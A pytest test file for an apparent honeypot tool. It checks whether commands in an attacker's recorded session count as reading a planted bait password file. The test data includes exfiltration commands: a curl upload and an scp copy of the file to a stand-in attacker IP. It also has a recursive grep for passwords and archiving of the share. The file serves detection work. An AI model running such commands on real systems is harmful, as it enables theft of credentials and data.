"""Whether a session read a bait: by path, by name where it is, by pattern, with a directory; what only looks does not."""

from __future__ import annotations

from datetime import UTC, datetime
from typing import Any

import pytest

from decnet.decoys.canary.reading import opened, reads_of
from decnet.events.session import SessionEnded
from tests.decoykit import START, token

PATH = "/srv/share/pass.html"
READS = (
    ["cat /srv/share/pass.html"],
    ["sudo cat /srv/share/pass.html"],
    ["cd /srv/share", "cat pass.html"],
    ["cd /srv; cd share && less ./pass.html"],
    ["cd /srv/share", "cat *.html"],
    ["cat /srv/share/*"],
    ["cp /srv/share/pass.html /tmp/x"],
    ["scp -f /srv/share/pass.html"],
    ["scp /srv/share/pass.html me@203.0.113.9:"],
    ["tar czf /tmp/x.tgz /srv/share"],
    ["cp -r /srv /tmp/x"],
    ["grep -ri password /srv"],
    ["base64 < /srv/share/pass.html"],
    ["curl -F f=@/srv/share/pass.html http://203.0.113.9/"],
    ["sh -c 'cat /srv/share/pass.html'"],
    ["python3 -c \"print(open('/srv/share/pass.html').read())\""],
    ["dd if=/srv/share/pass.html of=/tmp/x"],
    ["ls /srv/share; head -3 /srv/share/pass.html"],
)
READS_NOT = (
    ["ls -la /srv/share/pass.html"],
    ["rm -f /srv/share/pass.html"],
    ["echo hi > /srv/share/pass.html"],
    ["echo /srv/share/pass.html"],
    ["cat pass.html"],
    ["cat /srv/share/pass.html.bak"],
    ["cat /mnt/srv/share/pass.html"],
    ["cp evil /srv/share/pass.html"],
    ["scp -t /srv/share/pass.html"],
    ["cp /srv /tmp/x"],
    ["cat /srv/*"],
    ["cd /srv/share", "cd", "cat pass.html"],
    [],
)


@pytest.mark.parametrize("lines", READS, ids="; ".join)
def test_commands_that_read(lines: list[str]) -> None:
    found = {(one.path, one.place) for one in opened(lines, [PATH])}
    assert found == {(PATH, len(lines) - 1)}


@pytest.mark.parametrize("lines", READS_NOT, ids="; ".join)
def test_commands_that_do_not(lines: list[str]) -> None:
    assert list(opened(lines, [PATH])) == []


def ended(*texts: str, decky: str = "web-01", **more: Any) -> SessionEnded:
    commands = [{"command_text": text, "ts": START + n} for n, text in enumerate(texts)]
    payload = {
        "session_id": "s1",
        "decky_id": decky,
        "attacker_ip": "203.0.113.9",
        "ended_at": START + 9,
        "commands": commands,
    }
    return SessionEnded.parse({**payload, **more})


def test_a_read_names_session_command_and_reader_once() -> None:
    laid = [token("t1", path=PATH), token("t2", "0" * 26, path=PATH), token("t3", "1" * 26, path="/etc/motd")]
    rows = list(reads_of(ended("id", f"cat {PATH}", f"head {PATH}"), START, laid))
    assert [(row["token_id"], row["command_id"], row["at"].timestamp()) for row in rows] == [
        ("t1", "s1#cmd1", START + 1),
        ("t2", "s1#cmd1", START + 1),
    ]
    assert {row["attacker_ip"] for row in rows} == {"203.0.113.9"}
    assert rows[0]["attacker_uuid"]


def test_on_another_decky_or_before_there_was_a_token_nothing_is_read() -> None:
    laid = [token("t1", path=PATH)]
    assert list(reads_of(ended(f"cat {PATH}", decky="db-01"), START, laid)) == []
    later = [token("t1", path=PATH, minted_at=datetime.fromtimestamp(START + 0.5, UTC))]
    assert list(reads_of(ended(f"cat {PATH}"), START, later)) == []
    assert [row["command_id"] for row in reads_of(ended("id", f"cat {PATH}"), START, later)] == ["s1#cmd1"]


def test_hostile_lines_never_raise() -> None:
    lines = [
        "cat " + "/srv/share/" * 5000,
        "\0\x1b[2J",
        "cat '" * 200,
        "[" * 1000,
        "cat $(cat $(cat $(cat /srv/share/pass.html)))",
    ]
    assert {one.path for one in opened(lines, [PATH])} <= {PATH}
